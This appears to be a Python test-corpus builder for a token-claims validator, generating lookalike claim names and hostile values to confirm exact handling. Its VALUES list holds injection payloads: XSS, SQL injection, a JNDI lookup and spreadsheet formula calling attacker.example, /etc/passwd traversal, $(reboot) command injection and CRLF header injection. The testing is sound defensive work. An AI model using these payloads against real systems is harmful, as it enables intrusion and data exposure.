# SPDX-License-Identifier: Apache-2.0
"""Names that differ from the claim's, and values that would have a meaning elsewhere."""

import json

from making import ABSENT, HEADER, NOW, Raw, b64u, person, signed, token

EMAIL = "ann@example.com"


def lookalikes(name):
    first = name[0]
    made = [
        ("in capitals", name.upper()), ("with a capital", name.capitalize()),
        ("with a capital last letter", name[:-1] + name[-1].upper()), ("after a space", " " + name),
        ("before a space", name + " "),
        ("before a newline", name + "\\n"), ("in full width", "".join(chr(ord(c) + 0xFEE0) for c in name)),
        ("with a Cyrillic letter", name.replace("e", "\u0435").replace("i", "\u0456")),
        ("with a zero width space", name[:1] + "\u200b" + name[1:]), ("after a byte order mark", "\ufeff" + name),
        ("with a combining mark", name + "\u0301"), ("with a soft hyphen", name[:2] + "\u00ad" + name[2:]),
        ("cut short", name[:-1]), ("with an extra letter", name + "s"), ("doubled", name + name),
        ("in quotes", f'\\"{name}\\"'), ("by an escaped escape", f"\\\\u{ord(first):04x}{name[1:]}"),
        ("in brackets", f"[{name}]"),
        ("with a dot", f"user.{name}"), ("with a URI", f"https://example.com/{name}"),
        ("with a math letter", "\U0001d41a" + name[1:]),
        ("with a sign of case", name.replace("e", "\u00eb").replace("i", "\u0131")),
    ]
    return [(about, spelled) for about, spelled in made if spelled != name]


# The last of each is its own name in another case.
NEAR = {
    "sub": "userId user_id uid customerId nameid nameidentifier SUB", "name": "fullName display-name username Name",
    "avatar_url": "avatar picture photo profile_picture image avatarUrl",
    "company_name": "company companies organization companyName", "company_id": "company-id companyId",
    "company_mrr": "mrr companyMRR", "customer_status": "status customerStatus",
    "external_user_id": "externalId externalUserId", "user_hash": "hash hmac identifier_hash userHash",
    "account_owner_id": "accountOwnerId", "account_owner_email": "accountOwnerEmail", "renewal_date": "renewalDate",
    "renewal_risk": "RenewalRisk", "iss": "ISS", "jti": "Jti", "aud": "AUD", "nbf": "N-B-F",
}


def add_names(corpus):
    g = corpus.group("C5", "A claim's name is compared byte by byte; a name that only looks like it is another member.")
    for name, spelled in lookalikes("email"):
        g.payload(f"email {name}", person(f'"{spelled}":"{EMAIL}"', email=ABSENT), "missing_email")
        g.payload(f"email and its lookalike {name}", person(f'"{spelled}":"root@example.com"'), tells={"email": EMAIL})
    for name, spelled in lookalikes("exp"):
        g.payload(f"exp {name}", person(f'"{spelled}":{NOW + 60}', exp=ABSENT), "missing_exp")
    for name, spelled in lookalikes("iat"):
        near = " unknown_name:iat" if spelled.lower() == "iat" else ""
        g.payload(f"iat {name}", person(f'"{spelled}":{NOW + 9999}', iat=ABSENT), warnings=f"missing_iat:iat{near}")
    for name, spelled in lookalikes("sub"):
        g.payload(f"sub {name}", person(f'"{spelled}":"u-1"'), tells={"user_id": None})
    for other in ("mail", "e-mail", "emailAddress", "email_address", "upn", "preferred_username", "unique_name",
                  "login", "user", "sub"):
        g.payload(f"{other} instead of email", person(f'"{other}":"{EMAIL}"', email=ABSENT), "missing_email")
    for other in ("expires", "expires_at", "expiresIn", "exp_at", "expiry"):
        g.payload(f"{other} instead of exp", person(f'"{other}":{NOW + 60}', exp=ABSENT), "missing_exp")
    for other in ("user_id", "userId", "uid", "ID", "Id", "_id", "oid"):
        shown = {"Id": "id with a capital", "_id": "id with an underscore", "ID": "id in capitals"}.get(other, other)
        g.payload(f"{shown} instead of id", person(f'"{other}":"u-1"'), tells={"user_id": None})
    g = corpus.group("C5", "A near miss of an absent claim's name causes a warning and doesn't count as the claim.")
    for claim, others in NEAR.items():
        for other in others.split():
            g.payload(f"{other} instead of an absent {claim}", person(f'"{other}":"x"'),
                      warnings=f"unknown_name:{claim}")
        g.payload(f"{other} beside {claim}", person(f'"{claim}":null,"{other}":"x"'), warnings="")
    for prefix in ("http://schemas.xmlsoap.org/ws/2005/05/identity/claims/",
                   "http://schemas.microsoft.com/ws/2008/06/identity/claims/"):
        g.payload(f"nameidentifier with the prefix of {prefix[15:20]}", person(f'"{prefix}nameidentifier":"u-1"'),
                  warnings="unknown_name:sub", tells={"user_id": None})
    for name, member in [("an object", '"user":{"userId":1}'), ("an array", '"users":[{"mrr":1}]'),
                         ("a value", '"x":"userId"')]:
        g.payload(f"a near miss within {name}", person(member), warnings="")
    g.payload("a near miss of 128 bytes", person(f'"{"_" * 125}sub":1'), warnings="unknown_name:sub")
    g.payload("a near miss of 129 bytes", person(f'"{"_" * 126}sub":1'), warnings="")

    g = corpus.group("C5", "Claims are members of the payload itself, not of a nested object or of the header.")
    for name, member in [("user", '"user":{"email":"%s"}'), ("claims", '"claims":{"email":"%s"}'),
                         ("an array", '"x":[{"email":"%s"}]'), ("a string of JSON", '"x":"{\\"email\\":\\"%s\\"}"'),
                         ("a claim", '"name":{"email":"%s"}')]:
        g.payload(f"an e-mail in {name}", person(member % EMAIL, email=ABSENT), "missing_email")
    g.payload("an exp in an object", person('"x":{"exp":%d}' % (NOW + 60), exp=ABSENT), "missing_exp")
    g.add("an exp in the header", token(json.dumps({"alg": "HS256", "exp": NOW + 60}), person(exp=ABSENT)),
          "missing_exp")
    g.add("an e-mail in the header", token(json.dumps({"alg": "HS256", "email": EMAIL}), person(email=ABSENT)),
          "missing_email")
    g.add("an expired exp in the header", token(json.dumps({"alg": "HS256", "exp": 1})),
          why="A member of the header isn't a claim.")
    g.add("an issuer in the header", token(json.dumps({"alg": "HS256", "iss": "i"})), "issuer_mismatch",
          policy={"issuer": "i"})
    g.add("an audience in the header", token(json.dumps({"alg": "HS256", "aud": "a"})), "audience_mismatch",
          policy={"audience": "a"})
    g.add("a user id in the header", token(json.dumps({"alg": "HS256", "sub": "root"})), tells={"user_id": None})
    g.add("all claims in the header", token(person()[:-1] + ',"alg":"HS256"}', "{}"), "missing_exp")

    g = corpus.group("C5", "A claim's name may be written with escapes; it is the same name.")
    for name, spelled in [("its first letter escaped", "\\u0065mail"), ("its last letter escaped", "emai\\u006c"),
                          ("all of it escaped", "\\u0065\\u006d\\u0061\\u0069\\u006C")]:
        g.payload(f"email with {name}", person(f'"{spelled}":"{EMAIL}"', email=ABSENT), tells={"email": EMAIL})
    g.payload("exp with an escape", person('"e\\u0078p":%d' % (NOW + 60), exp=ABSENT), tells={"expires_at": NOW + 60})
    g.payload("an expired exp with an escape", person('"e\\u0078p":%d' % (NOW - 30), exp=ABSENT, iat=NOW - 90),
              "expired")
    g.payload("sub with an escape", person('"s\\u0075b":"u-1"'), tells={"user_id": "u-1"})
    g.payload("avatarURL with an escape", person('"avatar\\u0055RL":"https://a.example/a"'),
              tells={"avatar_url": "https://a.example/a"})


VALUES = [
    ("markup", "<script>alert(1)</script>"), ("an attribute", '"><img src=x onerror=alert(1)>'),
    ("a statement", "'; DROP TABLE users;--"), ("a condition", "' OR '1'='1"), ("a template", "{{7*7}}${7*7}#{7*7}"),
    ("a format", "%s%n%x%p%.1000d"), ("a lookup", "${jndi:ldap://attacker.example/a}"),
    ("a path", "../../../../etc/passwd"), ("a command", "$(reboot)`reboot`;reboot|reboot"),
    ("a header", "a\r\nSet-Cookie: a=b"),
    ("a formula", "=HYPERLINK(\"https://attacker.example\")"), ("an escape sequence", "\x1b[2J\x1b]0;a\x07"),
    ("a backspace", "root\x08\x08\x08\x08ann"), ("a right to left override", "\u202egpj.exe"),
    ("isolates", "\u2066a\u2069"),
    ("zero width characters", "a\u200b\u200c\u200d\u2060b"), ("a mark", "\ufeffAnn"),
    ("a joined emoji", "\U0001f469\u200d\U0001f4bb"), ("a tag character", "a\U000e0041"),
    ("many accents", "Z" + "\u0301" * 40), ("a private character", "\ue000\U0010fffd"),
    ("noncharacters", "\ufffe\uffff\U0001ffff"), ("a replacement character", "\ufffd"),
    ("line separators", "a\u2028b\u2029c"), ("a ligature", "\ufb01"), ("a dotted capital I", "\u0130I\u0131i"),
    ("a sharp s", "Stra\u00dfe"),
    ("a Kelvin sign", "\u212a\u212b"), ("decomposed text", "A\u030angstro\u0308m"),
    ("composed text", "\u00c5ngstr\u00f6m"), ("white space", "  Ann\u00a0\u3000 "), ("nothing", ""),
    ("a JSON text", '{"email":"root@example.com"}'),
    ("a token", token().decode()), ("a backslash", "\\u0041\\n\\"), ("slashes", "//\\/"), ("a number", "007"),
    ("a date", "2025-01-01"),
]


def add_values(corpus):
    g = corpus.group("C7",
                     "A value is returned byte for byte as it was signed: not trimmed, normalized, escaped or cut.")
    for name, value in VALUES:
        plain = json.dumps(value, ensure_ascii=False)
        g.claims(f"{name} as a name", name=value, settings={"tells": {"name": value or None, "email": EMAIL}})
        g.add(f"{name} as a user id and a company as it is",
              signed(b64u(HEADER), b64u(person(company_id=Raw(plain), sub=Raw('"u' + plain[1:])))),
              tells={"company_id": value or None, "user_id": "u" + value})
    for name, value in [("controls", "a\tb"), ("a newline", "a@b.c\n")]:
        g.claims(f"{name} in an e-mail", "malformed_claim email", "An e-mail must not contain control characters.",
                 email=value)
    g.claims("a name that is not text", settings={"warnings": "wrong_type:name", "tells": {"name": None}}, name=["<b>"])


def add(corpus):
    add_names(corpus)
    add_values(corpus)
